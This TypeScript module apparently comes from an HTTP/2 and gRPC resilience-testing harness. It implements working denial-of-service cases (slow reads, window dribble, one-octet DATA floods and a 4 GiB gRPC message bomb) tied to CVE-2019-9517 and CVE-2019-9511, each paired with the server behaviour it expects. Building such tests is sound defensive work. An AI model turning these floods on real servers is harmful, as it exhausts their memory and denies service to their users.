import type { Attack, Sight, Stage } from "../attack.ts"
import { endOf } from "../flood.ts"
import { block } from "../hpack.ts"
import { describeStream, type Peer, request } from "../peer.ts"
import * as wire from "../wire.ts"

const STREAMS = 100
const WATCH_MS = 2000
/** Not compressed, 4 GiB less one octet. */
const PREFIX = Buffer.from([0, 0xff, 0xff, 0xff, 0xff])
const { END_HEADERS, END_STREAM } = wire.Flag

/** What is left when the blows of an attack are done: how the connection and its streams stand. */
function sightOf(peer: Peer, startMs: number, framesBefore = 0): Sight {
  const counts = new Map<string, number>()
  for (const view of peer.streams.values()) {
    const end = describeStream(view)
    counts.set(end, (counts.get(end) ?? 0) + 1)
  }
  return {
    ...endOf(peer),
    frames: peer.framesSent - framesBefore,
    octets: peer.octetsSent,
    ms: Math.round(performance.now() - startMs),
    note: [...counts].map(([end, count]) => `${count} × ${end}`).join(", "),
    wrong: [],
  }
}

async function askFor100MB(stage: Stage, settings: (readonly [number, number])[]): Promise<[Peer, number]> {
  const startMs = performance.now()
  const peer = await stage.connect(settings)
  if (!stage.reading) peer.stopReading()
  const ask = block(request("/abuse.Attack/Big"))
  for (let i = 0; i < STREAMS; i++) peer.send(wire.headers(2 * i + 1, ask, END_HEADERS | END_STREAM))
  return [peer, startMs]
}

/** CVE-2019-9517 and older: responses that the client asks for and does not take. */
export const slowRead: Attack[] = [
  {
    name: "slow-read-window",
    source: "CVE-2019-9517; RFC 9113 §10.5",
    how: "100 responses of 1 MB asked for with a stream window of 0",
    side: "downstream",
    pace: "flood",
    counters: [],
    bar: { held: "memory stays bounded; resetting the holders is welcome", end: "may" },
    async run(stage) {
      const [peer, startMs] = await askFor100MB(stage, [[wire.Setting.INITIAL_WINDOW_SIZE, 0]])
      await peer.until(() => peer.over, WATCH_MS)
      return sightOf(peer, startMs)
    },
  },
  {
    name: "slow-read-connection",
    source: "CVE-2019-9517; RFC 9113 §6.9.1",
    how: "100 responses of 1 MB asked for with large stream windows and 65,535 octets for the connection",
    side: "downstream",
    pace: "flood",
    counters: [],
    bar: { held: "memory stays bounded; resetting the holders is welcome", end: "may" },
    async run(stage) {
      const [peer, startMs] = await askFor100MB(stage, [[wire.Setting.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]])
      await peer.until(() => peer.over, WATCH_MS)
      return sightOf(peer, startMs)
    },
  },
  {
    name: "slow-read-socket",
    source: "CVE-2019-9517",
    how: "100 responses of 1 MB with every HTTP/2 window wide open; when not reading, TCP's is closed",
    side: "downstream",
    pace: "flood",
    counters: [],
    bar: { held: "memory stays bounded; resetting the holders is welcome", end: "may" },
    async run(stage) {
      const [peer, startMs] = await askFor100MB(stage, [[wire.Setting.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]])
      peer.send(wire.windowUpdate(0, 2 ** 30))
      const all = () =>
        peer.over || [...peer.streams.values()].filter((view) => view.ended).length === STREAMS
      await peer.until(all, WATCH_MS)
      return sightOf(peer, startMs)
    },
  },
  {
    name: "window-dribble",
    source: 'CVE-2019-9511, "Data Dribble"; RFC 9113 §6.9',
    how: "100 responses of 1 MB, credit for one octet at a time, 30,000 times",
    side: "downstream",
    pace: "flood",
    counters: [],
    bar: { held: "memory stays bounded, neighbours are served; ending it is welcome", end: "may" },
    async run(stage) {
      const [peer, startMs] = await askFor100MB(stage, [[wire.Setting.INITIAL_WINDOW_SIZE, 0]])
      for (let i = 0; i < 300 && !peer.over && performance.now() - startMs < WATCH_MS; i++) {
        peer.send(...Array.from({ length: STREAMS }, (_, n) => wire.windowUpdate(2 * n + 1, 1)))
        await peer.until(() => peer.over, 2)
      }
      return sightOf(peer, startMs)
    },
  },
  {
    name: "small-data",
    source: "CVE-2019-9511; RFC 9113 §10.5",
    how: "one octet per DATA frame, as far as credit goes, on 10 streams whose backend takes nothing more",
    side: "downstream",
    pace: "flood",
    counters: [],
    bar: { held: "memory stays bounded: a queued octet is not charged as one octet", end: "may" },
    async run(stage) {
      const startMs = performance.now()
      const peer = await stage.connect()
      await peer.until(() => false, 50)
      if (!stage.reading) peer.stopReading()
      const each = Math.floor(Math.min(peer.initialWindow, peer.connectionCredit / 10, 40_000))
      for (let n = 0; n < 10; n++) peer.send(wire.headers(2 * n + 1, block(request("/abuse.Attack/Stall"))))
      const octet = Array.from({ length: 10 }, (_, n) => wire.data(2 * n + 1, Buffer.from("x")))
      for (let i = 0; i < each && !peer.over && performance.now() - startMs < 2500; i += 32) {
        const more = Math.min(32, each - i)
        peer.send(...Array.from({ length: more }, () => octet).flat())
        await peer.until(() => peer.over, 1)
      }
      await peer.until(() => peer.over, 500)
      return sightOf(peer, startMs)
    },
  },
  {
    name: "message-bomb",
    source: "gRPC over HTTP/2, Length-Prefixed-Message",
    how: "a message prefix that announces 4 GiB, then 16 MB of it as credit allows",
    side: "downstream",
    pace: "flood",
    unread: false,
    counters: [],
    bar: { held: "memory stays bounded: the whole message is not waited for", end: "may" },
    async run(stage) {
      const startMs = performance.now()
      const peer = await stage.connect()
      const view = peer.stream(1)
      let credit = peer.initialWindow - PREFIX.length
      peer.onFrame = ({ type, streamId, payload }) => {
        if (type === wire.FrameType.WINDOW_UPDATE && streamId === 1) credit += payload.readUInt32BE(0)
        if (type !== wire.FrameType.DATA || payload.length === 0) return
        peer.send(wire.windowUpdate(0, payload.length), wire.windowUpdate(1, payload.length))
      }
      peer.send(wire.headers(1, block(request("/abuse.Attack/Echo"))))
      peer.connectionCredit -= PREFIX.length
      peer.send(wire.data(1, PREFIX))
      const stopped = () => peer.over || view.ended || view.reset !== null
      for (let left = 16_000_000; left > 0 && !stopped() && performance.now() - startMs < 2500; ) {
        const octets = Math.min(left, credit, peer.connectionCredit, 16_384)
        if (octets <= 0) {
          await peer.until(() => stopped() || (credit > 0 && peer.connectionCredit > 0), 200)
          continue
        }
        credit -= octets
        peer.connectionCredit -= octets
        left -= octets
        peer.send(wire.data(1, Buffer.alloc(octets)))
        await peer.until(stopped, 0)
      }
      return sightOf(peer, startMs)
    },
  },
]
